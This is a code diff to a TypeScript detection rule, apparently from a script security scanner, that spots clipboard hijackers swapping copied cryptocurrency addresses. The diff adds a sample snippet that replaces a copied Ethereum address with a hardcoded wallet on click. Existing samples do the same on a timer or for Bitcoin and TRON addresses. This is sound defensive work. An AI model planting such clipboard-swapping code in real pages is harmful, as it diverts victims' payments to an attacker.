@@ -1,4 +1,5 @@
 import {
+  type Call,
   callsNamed,
   callsOf,
   constant,
@@ -21,6 +22,8 @@ import { flowsOf } from '../../extension/flowsOf.ts';
 import type { Flow } from '../../taint/flow.ts';
 import { hitsOfFlows, type Weight } from '../../taint/hits.ts';
 import { say } from '../../../texts/say.ts';
+import { first } from '../../facts/first.ts';
+import { functionAt } from '../../program/functionAt.ts';
 import { runsWhenAsked } from '../../verdict/consentOf.ts';
 import type { Facts } from '../../facts.ts';
 import { defineRule } from '../../rule.ts';
@@ -72,6 +75,9 @@ export const clipboardSwapped = defineRule({
             "const KINDS = [{ like: /^0x[a-fA-F0-9]{40}$/, whole: '0x52908400098527886E0F7030069857D2E4169EE7' }, { like: /^T[1-9A-HJ-NP-Za-km-z]{33}$/, whole: 'TQ5nV8mKfR2xJ7hWc3ePzY9sLb6uDa4GkE' }]; export const wash = (text) => KINDS.find(({ like }) => like.test(text))?.whole ?? text;",
         },
       },
+      contentExample(
+        'const mine = "0x52908400098527886E0F7030069857D2E4169EE7"; const layer = document.createElement("div"); layer.onclick = async () => { const t = await navigator.clipboard.readText(); if (/^0x[a-fA-F0-9]{40}$/.test(t)) navigator.clipboard.writeText(mine); };',
+      ),
       backgroundExample(
         'setInterval(async () => { const t = await navigator.clipboard.readText(); const r = /\\b(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}\\b/; if (r.test(t)) navigator.clipboard.writeText(pick(t)); }, 500);',
       ),
@@ -111,24 +117,27 @@ const within = checkScripts(function* ({ script, file, facts, hit }) {
         message: say('clipboard-command'),
       });
   }
-  // What a button copies, the person asked for.
+  const addresses = addressPatterns(script);
+  // What a button copies, the person asked for; not what takes the place of what is read there.
   const unit = facts.whole(calleesOf).program.units.find((one) => one.file === file);
-  const unasked = writes.filter(({ value }) => unit === undefined || !runsWhenAsked(unit, posOf(script, value)));
+  const read = new Set(pastes(script).map(({ pos }) => functionAt(script, pos)));
+  const isAsked = (pos: number): boolean =>
+    unit !== undefined && runsWhenAsked(unit, pos) && !(addresses.length > 0 && read.has(functionAt(script, pos)));
+  const unasked = first(writes, MOST_WRITES).filter(({ value }) => !isAsked(posOf(script, value)));
   const [write] = unasked;
   if (write === undefined) return;
-  const addresses = addressPatterns(script);
-  const [first] = addresses;
-  const own = ownAddresses(script);
+  const [form] = addresses;
+  const own = first(ownAddresses(script), MOST_WRITES);
   const puts = ({ value }: Text): boolean =>
     unasked.some((one) => isTaken(script, posOf(script, one.value)) && isMadeOf(script, one.content, value));
   // How it tells addresses may be hidden: that its own takes the place of what was copied says enough.
-  const put = first === undefined ? own.find(puts) : undefined;
+  const put = form === undefined ? own.find(puts) : undefined;
   if (put !== undefined) yield hit(write.value, { message: say('clipboard-wallet-put', put.text.slice(0, 60)) });
-  else if (first === undefined) {
+  else if (form === undefined) {
     const table = readsClipboard(script) ? facts.whole(exchangeTable) : undefined;
     if (table !== undefined) yield hit(write.value, { message: say('clipboard-wallet-replaced', table.slice(0, 60)) });
   } else if (own.some(({ value }) => unasked.some(({ content }) => isMadeOf(script, content, value))))
-    yield hit(write.value, { message: say('clipboard-wallet-replaced', first.text.slice(0, 60)) });
+    yield hit(write.value, { message: say('clipboard-wallet-replaced', form.text.slice(0, 60)) });
   else if (readsClipboard(script) || own.length > 0)
     yield hit(write.value, {
       // Several kinds of addresses, each replaced: nothing but an exchange needs that.
@@ -143,9 +152,16 @@ const within = checkScripts(function* ({ script, file, facts, hit }) {
 const readsClipboard = (script: ScriptFacts): boolean =>
   isPasted(script) || callsNamed(script, 'getSelection', 'getData').length > 0;
 
-const isPasted = (script: ScriptFacts): boolean =>
-  callsOf(script, 'navigator.clipboard.readText').length > 0 ||
-  callsOf(script, 'document.execCommand').some((call) => constant(script, call.args[0] ?? 0) === 'paste');
+/** Calls that read the clipboard. */
+const pastes = (script: ScriptFacts): readonly Call[] => [
+  ...callsOf(script, 'navigator.clipboard.readText'),
+  ...callsOf(script, 'document.execCommand').filter((call) => constant(script, call.args[0] ?? 0) === 'paste'),
+];
+
+const isPasted = (script: ScriptFacts): boolean => pastes(script).length > 0;
+
+/** Writes to the clipboard, and addresses, of one script that are looked at. */
+const MOST_WRITES = 50;
 
 /** Whether a place writes to the clipboard after it was read, or in a listener for what the person copies. */
 const isTaken = (script: ScriptFacts, pos: number): boolean => isPasted(script) || isInCopied(script, pos);
